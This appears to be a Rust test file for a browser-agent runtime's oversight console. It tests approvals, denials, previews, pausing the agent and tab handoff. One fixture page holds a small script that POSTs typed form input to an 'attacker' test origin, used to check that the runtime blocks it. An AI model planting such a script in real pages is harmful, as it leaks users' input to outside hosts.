//! The console in a real browser: a second headless Chromium (the person's, driven with
//! Glovebox's own CDP client) opens `GET /` with the person token in the URL fragment and sees
//! the runtime's tabs, a pending approval, the operation log and a read-only preview; a person's
//! deny on the card means zero writes; closing a page from the console keeps it closed. Each
//! state's screenshot is written under the test's output folder.

use std::path::PathBuf;
use std::time::Duration;

use serde_json::{Value, json};

use crate::env;

/// The person's browser, looking at one page.
pub(crate) struct Person {
    _browser: cdp::Browser,
    page: cdp::Session,
    shots: PathBuf,
}

impl Person {
    pub(crate) async fn open(name: &str, url: &str) -> Person {
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
            .join("console-person")
            .join(name);
        let _ = std::fs::remove_dir_all(&dir);
        let browser = cdp::Browser::launch(&cdp::LaunchOptions::new(&dir))
            .await
            .expect("the person's browser starts");
        let conn = browser
            .connect(cdp::ConnectionOptions::default())
            .await
            .unwrap();
        let page = conn.browser().create_page(url, None).await.unwrap();
        let shots = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("console-shots");
        std::fs::create_dir_all(&shots).unwrap();
        Person {
            _browser: browser,
            page,
            shots,
        }
    }

    pub(crate) async fn eval(&self, expression: &str) -> Value {
        let reply = self
            .page
            .call(cdp::domains::runtime::Evaluate::value(expression))
            .await
            .unwrap();
        assert!(
            reply.exception_details.is_none(),
            "{expression}: {:?}",
            reply.exception_details
        );
        reply.result.value.unwrap_or(Value::Null)
    }

    /// `expression`'s value, or `None` while it throws (the page still loading).
    async fn try_eval(&self, expression: &str) -> Option<Value> {
        let reply = self
            .page
            .call(cdp::domains::runtime::Evaluate::value(expression))
            .await
            .ok()?;
        if reply.exception_details.is_some() {
            None
        } else {
            reply.result.value
        }
    }

    /// Waits (up to 20 s) until `expression` is true in the console page.
    pub(crate) async fn until(&self, what: &str, expression: &str) {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
        while self.try_eval(expression).await != Some(json!(true)) {
            assert!(
                tokio::time::Instant::now() < deadline,
                "never happened in the console: {what}\n{}",
                self.eval("document.body.innerText").await
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    pub(crate) async fn shot(&self, name: &str) {
        let shot = self
            .page
            .call(cdp::domains::page::CaptureScreenshot {
                format: Some("png".into()),
                ..Default::default()
            })
            .await
            .unwrap();
        std::fs::write(
            self.shots.join(format!("{name}.png")),
            runtime::decode_base64(&shot.data).unwrap(),
        )
        .unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_shows_tabs_approvals_log_and_a_preview_and_a_persons_deny_writes_nothing() {
    let env = env("console", true, None).await;
    let rt = env.runtime.clone();
    let session = rt.create_session().await.unwrap();
    let forms = rt
        .open_tab(
            &session,
            &env.fixtures.url("/extended-forms.html"),
            Duration::ZERO,
        )
        .await
        .unwrap();
    rt.open_tab(&session, &env.fixtures.url("/counter.html"), Duration::ZERO)
        .await
        .unwrap();
    // An R3 download waits for a person (the call waits up to a minute).
    let key = protocol::SurfaceName::new(rt.surface_key(&session, forms).unwrap()).unwrap();
    let observed = rt
        .observe(&session, Some(&key), &Default::default())
        .await
        .unwrap();
    let download = protocol::validate_extended_action(&json!({"type": "click", "expected_frame_id": observed.frame_id().as_str(),
        "target": {"kind": "text", "text": "Download report"}, "expect_download": true, "intent": "get the report"}))
    .unwrap();
    let waiting = {
        let (rt, session, key) = (rt.clone(), session.clone(), key.clone());
        tokio::spawn(async move {
            rt.act(
                &session,
                Some(&key),
                &download,
                &Default::default(),
                Duration::from_secs(60),
            )
            .await
        })
    };

    // Without the token the console says how to open it, and shows nothing.
    let stranger = Person::open("stranger", &format!("{}/", env.server.person.base_url)).await;
    stranger
        .until(
            "the banner asks for the printed link",
            "!document.getElementById('need-token').hidden",
        )
        .await;
    assert_eq!(
        stranger
            .eval("document.querySelectorAll('.row').length")
            .await,
        json!(0)
    );
    drop(stranger);

    let person = Person::open(
        "person",
        &format!(
            "{}/#token={}",
            env.server.person.base_url, env.server.person.token
        ),
    )
    .await;
    person
        .until("the token leaves the address bar", "location.hash === ''")
        .await;
    person
        .until(
            "two open tabs are listed",
            "document.querySelectorAll('.row [data-action=preview]').length === 2",
        )
        .await;
    person
        .until(
            "the R3 approval card is shown",
            "[...document.querySelectorAll('article.card')].some(c => c.textContent.includes('R3') && c.textContent.includes('Download report'))",
        )
        .await;
    let card = person
        .eval("document.querySelector('article.card').innerText")
        .await;
    assert!(
        card.as_str().unwrap().contains(&env.fixtures.origin()),
        "the card says where: {card}"
    );
    assert_eq!(
        person
            .eval(
                "document.querySelectorAll('article.card [data-decision=approve_for_task]').length"
            )
            .await,
        json!(0),
        "R3 is approved once or not at all"
    );
    assert_eq!(
        person
            .eval("document.querySelector('.group .count').textContent")
            .await,
        json!("2"),
        "the group counts its tabs"
    );
    person.shot("1-resources-and-approval").await;

    // A read-only preview of the exact page; hiding and showing it never reloads the page.
    let counter_loads = env.fixtures.requests_to("/counter.html").len();
    person.eval("[...document.querySelectorAll('.row')].find(r => r.textContent.includes('Act')).querySelector('[data-action=preview]').click()").await;
    person
        .until(
            "the preview shows an image",
            "(() => { const i = document.getElementById('preview-img'); return !i.hidden && i.complete && i.naturalWidth > 0; })()",
        )
        .await;
    person
        .until(
            "the preview is live",
            "document.getElementById('frame-label').textContent === 'live'",
        )
        .await;
    // No agent holds it: the person operates it directly, and there is nothing to pause.
    person
        .until(
            "idle",
            "document.getElementById('control-state').textContent === 'can operate directly'",
        )
        .await;
    assert_eq!(person.eval("document.getElementById('take-over').hidden && document.getElementById('hand-back').hidden").await, json!(true));
    person.shot("2-preview").await;
    person
        .eval("document.getElementById('toggle-preview').click()")
        .await;
    person
        .until("hidden", "document.getElementById('preview-area').hidden")
        .await;
    person
        .eval("document.getElementById('toggle-preview').click()")
        .await;
    person
        .until(
            "shown again",
            "!document.getElementById('preview-area').hidden",
        )
        .await;
    assert_eq!(
        env.fixtures.requests_to("/counter.html").len(),
        counter_loads,
        "previewing never reloads the page"
    );
    // The control row never wraps, at the seed's three widths.
    for width in [240, 300, 720] {
        let one_row = person
            .eval(&format!(
                "(() => {{ const p = document.querySelector('.preview'); p.style.width = '{width}px'; p.style.gridColumn = 'auto';
                   const tops = [...document.getElementById('controls').children].filter(c => c.offsetParent).map(c => Math.round(c.getBoundingClientRect().top + c.getBoundingClientRect().height / 2));
                   return Math.max(...tops) - Math.min(...tops) <= 4; }})()"
            ))
            .await;
        assert_eq!(one_row, json!(true), "the control row wraps at {width} px");
        person.shot(&format!("3-controls-{width}px")).await;
    }
    person
        .eval("document.querySelector('.preview').style.width = ''")
        .await;

    // The person denies on the card: the waiting call is refused, nothing was fetched.
    person
        .eval("document.querySelector('article.card [data-decision=deny]').click()")
        .await;
    let refused = tokio::time::timeout(Duration::from_secs(20), waiting)
        .await
        .expect("the call ends")
        .unwrap();
    assert!(
        matches!(refused, Err(runtime::RuntimeError::ApprovalDenied { .. })),
        "{refused:?}"
    );
    assert!(
        env.fixtures.requests_to("/report.csv").is_empty(),
        "a deny writes nothing"
    );
    person
        .until(
            "the card is gone",
            "document.querySelectorAll('article.card').length === 0",
        )
        .await;
    person
        .until("the log shows the denied approval", "[...document.querySelectorAll('#log tr[data-kind=approval]')].some(r => r.textContent.includes('deny'))")
        .await;
    person.shot("4-denied-and-log").await;

    // Closing a page from the console: it is listed as closed, and stays so.
    person.eval("window.confirm = () => true; [...document.querySelectorAll('.row')].find(r => r.textContent.includes('Forms')).querySelector('[data-action=close]').click()").await;
    person
        .until(
            "the page is listed as closed",
            "[...document.querySelectorAll('.group')].some(g => g.dataset.group === 'closed' && g.textContent.includes('Forms'))",
        )
        .await;
    let tabs = rt.tabs_for_person().unwrap();
    assert!(
        tabs.iter()
            .any(|t| t["state"] == "closed" && t["title"] == "Forms"),
        "{tabs:?}"
    );
    person.shot("5-closed").await;
}

/// The agent clicks "Add one" on `key` through the one action path (a fresh observation first).
async fn agent_click(
    rt: &runtime::Runtime,
    session: &protocol::SessionId,
    key: &protocol::SurfaceName,
) -> Result<(), runtime::RuntimeError> {
    let observed = rt.observe(session, Some(key), &Default::default()).await?;
    let action = protocol::validate_extended_action(
        &json!({"type": "click", "expected_frame_id": observed.frame_id().as_str(),
        "target": {"kind": "text", "text": "Add one"}, "intent": "count"}),
    )
    .unwrap();
    rt.act(
        session,
        Some(key),
        &action,
        &Default::default(),
        Duration::from_secs(30),
    )
    .await
    .map(|_| ())
}

/// The live view and the real entry. Five pages of one session are all reachable from
/// Resources; a pinned preview stays on A while the agent operates B (B gets the operating dot);
/// in B's real entry a hover leaves the agent alone, a click blocks the agent's next action
/// before it lands and "paused" appears only once the runtime confirmed it; the person's click
/// reached the page; "let the agent continue" gives it back; a page that stops answering shows
/// "last frame" and "live" again after.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_real_entry_pauses_the_agent_on_a_click_not_a_hover_and_a_stalled_page_shows_its_last_frame()
 {
    let env = env("console-entry", true, None).await;
    let rt = env.runtime.clone();
    let session = rt.create_session().await.unwrap();
    let mut surfaces = Vec::new();
    for page in [
        "/table.html",
        "/article.html",
        "/form.html",
        "/store.html",
        "/counter.html",
    ] {
        surfaces.push(
            rt.open_tab(&session, &env.fixtures.url(page), Duration::ZERO)
                .await
                .unwrap(),
        );
    }
    let b = protocol::SurfaceName::new(rt.surface_key(&session, surfaces[4]).unwrap()).unwrap();
    let tabs = rt.tabs_for_person().unwrap();
    let id_of = |path: &str| {
        let url = env.fixtures.url(path);
        tabs.iter()
            .find(|t| t["url"] == url.as_str())
            .unwrap_or_else(|| panic!("{path} in {tabs:?}"))["tab"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let (tab_a, tab_b) = (id_of("/table.html"), id_of("/counter.html"));

    let person = Person::open(
        "entry",
        &format!(
            "{}/#token={}",
            env.server.person.base_url, env.server.person.token
        ),
    )
    .await;
    person
        .until(
            "five open pages are listed",
            "document.querySelectorAll('.row [data-action=preview]').length === 5",
        )
        .await;
    assert_eq!(
        person
            .eval("document.querySelector('.group .count').textContent")
            .await,
        json!("5")
    );
    let row = |tab: &str, what: &str| {
        format!("document.querySelector('.row[data-tab=\"{tab}\"] [data-action={what}]').click()")
    };
    let live = "(() => { const i = document.getElementById('preview-img'); return !i.hidden && i.complete && i.naturalWidth > 0 && document.getElementById('frame-label').textContent === 'live'; })()";

    // Pinned on A while the agent operates B.
    person.eval(&row(&tab_a, "preview")).await;
    person.until("A's live preview", live).await;
    assert_eq!(
        person
            .eval("document.getElementById('pin').getAttribute('aria-pressed')")
            .await,
        json!("true"),
        "choosing a preview pins it"
    );
    agent_click(&rt, &session, &b)
        .await
        .expect("the agent clicks on B");
    person
        .until(
            "B has the operating dot",
            &format!("!!document.querySelector('.row[data-tab=\"{tab_b}\"] .dot:not(.idle)')"),
        )
        .await;
    person
        .until(
            "B's row lists the click",
            "[...document.querySelectorAll('#log tr')].some(r => r.textContent.includes('click'))",
        )
        .await;
    tokio::time::sleep(Duration::from_millis(1500)).await; // two refreshes: a follow would have moved by now
    assert_eq!(
        person
            .eval("document.querySelector('.row.selected').dataset.tab")
            .await,
        json!(tab_a),
        "a pinned preview stays on A"
    );
    person.shot("6-pinned-a-while-agent-on-b").await;

    // B's real entry.
    person.eval(&row(&tab_b, "open")).await;
    person
        .until("B's live real entry", &format!("{live} && document.getElementById('preview-area').classList.contains('entry') && view.resource === '{tab_b}'"))
        .await;
    person
        .until(
            "frames carry B's viewport",
            "!!view.frame && view.frame.width > 0",
        )
        .await;
    // Where "Add one" is in the console (the page's point mapped onto the `contain` image).
    let page = {
        let targets = env
            .browser
            .connection()
            .unwrap()
            .browser()
            .call(cdp::domains::target::GetTargets {})
            .await
            .unwrap();
        let url = env.fixtures.url("/counter.html");
        let target = targets
            .target_infos
            .iter()
            .find(|t| t.url == url)
            .and_then(|t| t.target_id.clone())
            .unwrap();
        env.browser
            .connection()
            .unwrap()
            .browser()
            .attach(&target)
            .await
            .unwrap()
    };
    let page_eval = async |expression: &str| -> Value {
        page.call(cdp::domains::runtime::Evaluate::value(expression))
            .await
            .unwrap()
            .result
            .value
            .unwrap_or(Value::Null)
    };
    let point = page_eval("(() => { const r = [...document.querySelectorAll('button')].find(b => b.textContent === 'Add one').getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()").await;
    let at = person
        .eval(&format!(
            "(() => {{ const img = document.getElementById('preview-img'), b = img.getBoundingClientRect(), f = view.frame;
               const s = Math.min(b.width / f.width, b.height / f.height);
               return [b.left + (b.width - f.width * s) / 2 + {} * s, b.top + (b.height - f.height * s) / 2 + {} * s]; }})()",
            point[0], point[1]
        ))
        .await;
    let (x, y) = (at[0].as_f64().unwrap(), at[1].as_f64().unwrap());
    let mouse = |kind: &str| cdp::domains::input::DispatchMouseEvent {
        event_type: kind.into(),
        x,
        y,
        button: Some(if kind == "mouseMoved" { "none" } else { "left" }.into()),
        click_count: Some(if kind == "mouseMoved" { 0 } else { 1 }),
        ..Default::default()
    };

    // A hover is not taking over: the agent's next action still lands.
    let before = person.eval("view.done").await.as_u64().unwrap();
    person.page.call(mouse("mouseMoved")).await.unwrap();
    person
        .until("the hover was dispatched", &format!("view.done > {before}"))
        .await;
    assert!(
        !matches!(
            rt.control_of(&tab_b),
            runtime::Control::Pausing | runtime::Control::Paused
        ),
        "a hover does not pause"
    );
    agent_click(&rt, &session, &b)
        .await
        .expect("after a hover the agent still acts");
    assert_eq!(
        page_eval("document.getElementById('count').textContent").await,
        json!("2 clicks")
    );

    // A click pauses: the agent's next action is refused before it lands.
    let before = person.eval("view.done").await.as_u64().unwrap();
    person.page.call(mouse("mousePressed")).await.unwrap();
    person.page.call(mouse("mouseReleased")).await.unwrap();
    person
        .until(
            "the click was dispatched",
            &format!("view.done >= {before} + 2"),
        )
        .await;
    assert!(
        matches!(
            rt.control_of(&tab_b),
            runtime::Control::Pausing | runtime::Control::Paused
        ),
        "{:?}",
        rt.control_of(&tab_b)
    );
    let refused = agent_click(&rt, &session, &b).await;
    assert!(
        matches!(refused, Err(runtime::RuntimeError::LeaseConflict { .. })),
        "the agent is blocked: {refused:?}"
    );
    person
        .until(
            "paused once confirmed",
            "document.getElementById('control-state').textContent === 'paused'",
        )
        .await;
    assert_eq!(
        rt.control_of(&tab_b),
        runtime::Control::Paused,
        "the console says paused only once the runtime confirmed it"
    );
    assert_eq!(
        page_eval("document.getElementById('count').textContent").await,
        json!("3 clicks"),
        "the person's click landed, the agent's did not"
    );
    person.shot("7-entry-paused-by-a-click").await;

    // Let the agent continue.
    person
        .eval("document.getElementById('hand-back').click()")
        .await;
    person
        .until(
            "in use again",
            "document.getElementById('control-state').textContent !== 'paused'",
        )
        .await;
    agent_click(&rt, &session, &b)
        .await
        .expect("the agent acts again after the hand-back");
    assert_eq!(
        page_eval("document.getElementById('count').textContent").await,
        json!("4 clicks")
    );

    // The agent's click is drawn from its record over the current frame: a ring on the button.
    person
        .until(
            "the click's marker is drawn",
            "document.getElementById('markers').dataset.drawn === 'click'",
        )
        .await;
    let ring = person
        .eval("(() => { const c = document.querySelector('#markers circle').getBoundingClientRect(); return [c.x + c.width / 2, c.y + c.height / 2]; })()")
        .await;
    assert!(
        (ring[0].as_f64().unwrap() - x).abs() < 3.0 && (ring[1].as_f64().unwrap() - y).abs() < 3.0,
        "the ring is on the button: {ring} vs ({x}, {y})"
    );
    assert_eq!(
        page_eval("document.querySelectorAll('[data-marker], svg, circle').length").await,
        json!(0),
        "nothing is drawn into the page"
    );
    person.shot("9-click-marker").await;
    // The page scrolls: the marker no longer matches the image and is not drawn; the log keeps it.
    page_eval("document.body.style.height = '4000px'; scrollTo(0, 300); scrollY").await;
    person.until("the marker is gone after the scroll", "document.getElementById('markers').dataset.drawn === '' && view.frame.scroll_y === 300").await;
    assert_eq!(
        person.eval("[...document.querySelectorAll('#log tr[data-kind=operation]')].filter(r => r.textContent.includes('click')).length >= 3").await,
        json!(true)
    );
    person.shot("10-marker-gone-after-scroll").await;

    // A page that does not answer: "last frame", then live again.
    let hold = {
        let page = page.clone();
        tokio::spawn(async move {
            page.send_raw(
                "Runtime.evaluate",
                json!({"expression": test_support::busy_main_thread(4000)}),
                Duration::from_secs(30),
            )
            .await
            .unwrap();
        })
    };
    person
        .until(
            "the label says last frame",
            "document.getElementById('frame-label').textContent.startsWith('last frame')",
        )
        .await;
    person.shot("8-stalled-last-frame").await;
    hold.await.unwrap();
    person
        .until(
            "live again",
            "document.getElementById('frame-label').textContent === 'live'",
        )
        .await;
}

/// Issue 29: a tab a gone session kept (with its cookies) is nobody's to claim until the person
/// offers it; the console's "Offer to agents" button does, and then sessions see it in `tabs`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_person_offers_a_kept_tab_to_sessions_from_the_console() {
    let env = env("console-offer", true, None).await;
    let rt = env.runtime.clone();
    let session = rt.create_session().await.unwrap();
    let kept = rt
        .open_tab(&session, &env.fixtures.url("/counter.html"), Duration::ZERO)
        .await
        .unwrap();
    let turn = rt.current_turn(&session).unwrap();
    rt.mark(&session, kept, runtime::Mark::Deliverable, &turn)
        .await
        .unwrap();
    rt.close_session(&session).await.unwrap();
    assert!(
        rt.user_tabs().unwrap().is_empty(),
        "a handed-over tab is not offered to other sessions by itself"
    );
    let person = Person::open(
        "offer",
        &format!(
            "{}/#token={}",
            env.server.person.base_url, env.server.person.token
        ),
    )
    .await;
    person
        .until(
            "the kept tab can be offered",
            "document.querySelectorAll('.row [data-action=offer]').length === 1",
        )
        .await;
    person
        .eval("document.querySelector('.row [data-action=offer]').click()")
        .await;
    person
        .until(
            "it is marked offered and the button is gone",
            "document.querySelectorAll('.row [data-action=offer]').length === 0 && document.querySelector('.row').textContent.includes('offered')",
        )
        .await;
    person.shot("offered").await;
    let offered = rt.user_tabs().unwrap();
    assert_eq!(offered.len(), 1, "sessions may claim it now: {offered:?}");
    let other = rt.create_session().await.unwrap();
    rt.claim_tab(&other, &offered[0].tab).await.unwrap();
}

/// Issue 29: a tab the agent typed into is held; the console shows what its page was refused, per
/// origin, and the person's "Allow for this tab" lets that one origin through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_shows_what_a_held_tab_was_refused_and_the_person_allows_it() {
    let env = env("console-held", true, None).await;
    let rt = env.runtime.clone();
    let attacker = test_support::FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    env.fixtures.html(
        "/held.html",
        format!(
            r#"<!doctype html><title>Held</title><input aria-label=Note id=n>
<script>setInterval(() => {{ if (n.value) fetch('{evil}/t', {{method: 'POST', body: n.value, mode: 'no-cors'}}).catch(() => {{}}); }}, 200);</script>"#
        ),
    );
    let session = rt.create_session().await.unwrap();
    rt.open_tab(&session, &env.fixtures.url("/held.html"), Duration::ZERO)
        .await
        .unwrap();
    let o = rt
        .observe(&session, None, &Default::default())
        .await
        .unwrap();
    let note = o
        .interactive_elements()
        .iter()
        .find(|e| e.name() == "Note")
        .unwrap()
        .element()
        .as_str()
        .to_owned();
    let typed = protocol::validate_extended_action(&json!({"type": "type",
        "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": note},
        "text": "kept-here", "intent": "t"}))
    .unwrap();
    rt.act(&session, None, &typed, &Default::default(), Duration::ZERO)
        .await
        .unwrap();
    let person = Person::open(
        "held",
        &format!(
            "{}/#token={}",
            env.server.person.base_url, env.server.person.token
        ),
    )
    .await;
    person
        .until(
            "the refused origin is listed with its Allow button",
            &format!(
                "!!document.querySelector('[data-refused=\"{evil}\"] [data-action=allow-origin]')"
            ),
        )
        .await;
    person.shot("held").await;
    assert!(attacker.requests().is_empty(), "nothing reached it yet");
    person
        .eval(&format!("window.confirm = () => true; document.querySelector('[data-refused=\"{evil}\"] [data-action=allow-origin]').click()"))
        .await;
    for _ in 0..100 {
        if !attacker.requests_to("/t").is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(
        attacker
            .requests_to("/t")
            .iter()
            .any(|r| r.body == b"kept-here"),
        "the origin the person allowed is reached"
    );
    person
        .until(
            "the allowed origin is no longer listed as refused",
            &format!("!document.querySelector('[data-refused=\"{evil}\"]')"),
        )
        .await;
}

/// Issue 35: a window a page opened is its session's tab, but a run uses it only after a person
/// links it. The console lists it with its opener and a Link button; the person's click links it
/// (kept past this turn's end, a run on it from the next turn), and the button goes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_person_links_a_popup_for_the_next_turn_from_the_console() {
    let env = env("console-link", true, None).await;
    let rt = env.runtime.clone();
    let session = rt.create_session().await.unwrap();
    rt.open_tab(&session, &env.fixtures.url("/widgets.html"), Duration::ZERO)
        .await
        .unwrap();
    let o = rt
        .observe(&session, None, &Default::default())
        .await
        .unwrap();
    let open_help = o
        .interactive_elements()
        .iter()
        .find(|e| e.name() == "Open help")
        .unwrap()
        .element()
        .as_str()
        .to_owned();
    let click = protocol::validate_extended_action(&json!({"type": "click",
        "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": open_help},
        "intent": "help"}))
    .unwrap();
    let outcome = rt
        .act(&session, None, &click, &Default::default(), Duration::ZERO)
        .await
        .unwrap();
    assert_eq!(outcome.opened.len(), 1, "{outcome:?}");
    let person = Person::open(
        "link",
        &format!(
            "{}/#token={}",
            env.server.person.base_url, env.server.person.token
        ),
    )
    .await;
    person
        .until(
            "the popup is listed with its opener and a Link button",
            "document.querySelectorAll('.row [data-action=link]').length === 1 && document.querySelector('[data-action=link]').closest('.row').textContent.includes('opened by s1')",
        )
        .await;
    person.shot("popup-linkable").await;
    person
        .eval("document.querySelector('.row [data-action=link]').click()")
        .await;
    person
        .until(
            "the popup is linked (kept as handoff) and the button is gone",
            "document.querySelectorAll('.row [data-action=link]').length === 0 && [...document.querySelectorAll('.row')].some(r => r.textContent.includes('opened by s1') && r.textContent.includes('handoff'))",
        )
        .await;
    let (ended, report) = rt.end_current_turn(&session).await.unwrap();
    assert_eq!(ended, "turn_1");
    assert_eq!(report.kept.len(), 1, "the linked popup stays: {report:?}");
    // The next turn's run, naming no tab, runs on the popup the person linked.
    let mut request = runtime::RunRequest::new("read the help");
    request.assertions = vec![runtime::Assertion::TextPresent {
        text: "Inside the same-origin frame".into(),
    }];
    let result = rt
        .run(
            &session,
            request,
            Box::new(runtime::ScriptedPlanner::new(vec![
                runtime::Scripted::Done("read".into()),
            ])),
        )
        .await
        .unwrap();
    assert_eq!(
        result.status(),
        protocol::RunStatus::Succeeded,
        "{result:?}"
    );
}
